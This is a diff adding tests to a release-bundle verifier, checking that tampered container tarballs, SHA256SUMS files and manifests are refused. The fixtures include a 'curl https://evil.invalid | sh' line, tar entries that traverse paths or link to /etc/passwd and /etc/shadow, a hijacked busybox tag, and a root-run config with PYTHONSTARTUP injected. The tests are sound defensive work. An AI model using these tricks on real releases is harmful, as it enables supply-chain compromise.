@@ -8,7 +8,9 @@ about the sums, and verify-bundle must fail naming the file, the image and the f
 from __future__ import annotations
 
 import json
+import shutil
 import subprocess
+import tarfile
 
 import pytest
 
@@ -19,7 +21,9 @@ from tests.harness.release_images import (
     bundle_files,
     clone_bundle,
     edit_manifest,
+    image_config_name,
     layer_offset,
+    raw_entry,
     resum,
     rewrite_config_docker,
     rewrite_tar,
@@ -143,6 +147,28 @@ def extra_file_in_sums(directory):
     sums.write_text(sums.read_text() + digest)
 
 
+def reorder_sums(directory):
+    sums = directory / "SHA256SUMS"
+    lines = sums.read_text().splitlines(keepends=True)
+    sums.write_text("".join(reversed(lines)))
+
+
+def duplicate_sums_line(directory):
+    sums = directory / "SHA256SUMS"
+    sums.write_text(sums.read_text() + sums.read_text().splitlines(keepends=True)[0])
+
+
+def unlisted_file(directory):
+    (directory / "install.sh").write_text("#!/bin/sh\ncurl https://evil.invalid | sh\n")
+
+
+def swap_control_plane_archive(directory):
+    # Another archive (say, one with a backdoor) under the name, SHA256SUMS made again:
+    # the control-plane image's label still pins the archive it really carries.
+    shutil.copyfile(directory / "modelforge-node-agent.pyz", directory / "modelforge-x86_64.pyz")
+    resum(directory)
+
+
 MUTATIONS = {
     # name: (mutation, needs its own tarball copy, what stderr must say)
     "flipped byte in a layer": (
@@ -188,6 +214,26 @@ MUTATIONS = {
         False,
         ["SHA256SUMS: lists extra.txt, which is not a file of release"],
     ),
+    "changed user in the manifest": (
+        mutate_manifest(lambda m: m["images"][AGENT]["config"].__setitem__("User", "0:0")),
+        False,
+        [f"images.{AGENT}.config.User: expected '0:0', found '65532:65532'"],
+    ),
+    "SHA256SUMS out of order": (reorder_sums, False, ["SHA256SUMS: lists the files out of order"]),
+    "a duplicate line in SHA256SUMS": (duplicate_sums_line, False, ["SHA256SUMS: line 6: lists"]),
+    "an unlisted file in the release directory": (
+        unlisted_file,
+        False,
+        ["install.sh: is in the release directory but SHA256SUMS does not list it"],
+    ),
+    "a control-plane archive the image does not pin": (
+        swap_control_plane_archive,
+        False,
+        [
+            "modelforge-x86_64.pyz: images.modelforge-control-plane.labels."
+            "io.modelforge.control-plane-pyz-sha256: is not the archive the image carries"
+        ],
+    ),
 }
 
 
@@ -227,3 +273,106 @@ def test_an_image_whose_id_changed_but_not_its_content_still_passes(
     result = verify(directory, "--json")
     assert result.returncode == 0, result.stderr
     assert json.loads(result.stdout)["layout"] == layout
+
+
+def _tampered_config(config):
+    config["config"]["User"] = "0:0"
+    config["config"]["Cmd"] = ["python3", "-c", "import os; print(os.environ)"]
+    config["config"]["Env"].append("PYTHONSTARTUP=/tmp/x.py")
+
+
+@pytest.mark.parametrize("layout", ["docker", "oci"])
+def test_an_image_whose_configuration_runs_something_else_is_refused(
+    layout, release_bundle, release_version, tmp_path
+):
+    """The attack that passed every verifier: the genuine layers and labels, a configuration
+    that runs as root with another command and an added PYTHONSTARTUP."""
+    directory = clone_bundle(release_bundle, tmp_path / release_bundle.name)
+    files = bundle_files(directory)
+    files["tarball"].unlink()
+    rewritten = tmp_path / "rewritten.tar"
+    rewrite_config_docker(
+        bundle_files(release_bundle)["tarball"], rewritten, AGENT, _tampered_config
+    )
+    if layout == "docker":
+        rewritten.rename(files["tarball"])
+    else:
+        skopeo_oci_tarball(rewritten, release_version, tmp_path, files["tarball"])
+    resum(directory)
+    result = verify(directory)
+    assert result.returncode == 1
+    for field in ("User: expected '65532:65532', found '0:0'", "Cmd: expected", "Env: expected"):
+        assert f"images.{AGENT}.config.{field}" in result.stderr, result.stderr
+
+
+def _docker_tarball_mutation(directory, change=lambda name, data: None, before=(), after=()):
+    tarball = bundle_files(directory)["tarball"]
+    original = tarball.with_name("original.tar")
+    tarball.rename(original)
+    rewrite_tar(original, tarball, change, list(before), list(after))
+    original.unlink()
+    resum(directory)
+
+
+def _retag(name, data):
+    if name != "manifest.json":
+        return None
+    manifest = json.loads(data)
+    manifest[0]["RepoTags"].append("busybox:latest")
+    return json.dumps(manifest).encode()
+
+
+TARBALL_TAMPERING = {
+    # name: (what to write, what stderr must say); SHA256SUMS is made again every time.
+    "an extra RepoTag that takes over busybox:latest": (
+        {"change": _retag},
+        "tag: the image is also tagged busybox:latest",
+    ),
+    "a repositories file that disagrees": (
+        {
+            "after": [
+                raw_entry("repositories", data=b'{"busybox": {"latest": "' + b"0" * 64 + b'"}}')
+            ]
+        },
+        "repositories names busybox:latest, which manifest.json does not tag",
+    ),
+    "a symbolic link, then a regular file, under the configuration's name": (
+        "config-link-then-file",
+        "is a symbolic link",
+    ),
+    "a name leaving the archive": (
+        {"after": [raw_entry("../../evil", data=b"x")]},
+        "leaves the archive ('..')",
+    ),
+    "an absolute name": ({"after": [raw_entry("/etc/cron.d/x", data=b"x")]}, "absolute name"),
+    "a symbolic link to /etc/passwd": (
+        {"after": [raw_entry("passwd", tarfile.SYMTYPE, link="/etc/passwd")]},
+        "is a symbolic link (to '/etc/passwd')",
+    ),
+    "a hard link to /etc/shadow": (
+        {"after": [raw_entry("shadow", tarfile.LNKTYPE, link="/etc/shadow")]},
+        "is a hard link (to '/etc/shadow')",
+    ),
+    "an entry outside the layout": (
+        {"after": [raw_entry("run.sh", data=b"#!/bin/sh\n")]},
+        "run.sh is not an entry of the docker image layout",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", TARBALL_TAMPERING)
+def test_a_tarball_docker_might_read_differently_is_refused(case, release_bundle, tmp_path):
+    how, expected = TARBALL_TAMPERING[case]
+    directory = clone_bundle(release_bundle, tmp_path / release_bundle.name, copy_tarball=True)
+    if how == "config-link-then-file":
+        # Before the real configuration, a link of its name to another image's: the old
+        # reader let the link win, docker load unpacks in order and takes the file.
+        tarball = bundle_files(directory)["tarball"]
+        config = image_config_name(tarball, AGENT)
+        other = image_config_name(tarball, WORKER)
+        how = {"before": [raw_entry(config, tarfile.SYMTYPE, link=other)]}
+    _docker_tarball_mutation(directory, **how)
+    result = verify(directory)
+    assert result.returncode == 1, result.stdout
+    assert expected in result.stderr, result.stderr
+    assert "do not use this release" in result.stderr
